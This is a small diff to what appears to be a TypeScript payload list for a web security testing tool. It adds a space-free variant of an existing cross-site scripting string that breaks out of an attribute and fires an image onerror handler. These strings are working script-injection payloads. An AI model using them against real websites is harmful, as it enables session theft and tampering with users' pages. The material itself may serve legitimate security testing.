@@ -47,6 +47,9 @@ export const PAYLOADS: readonly string[] = [
 /** Runs wherever text becomes an element, in text and in attributes. */
 export const SHORT = `"><img src=x onerror=${RUN}>`;
 
+/** The same without a space: the door puts the last word of a name first, which would take the other apart. */
+export const WORD = `"><img/src="x"/onerror=${RUN}>`;
+
 /** One form for fields of one line, and all forms for longer ones. */
 export interface Payload {
   line: string;
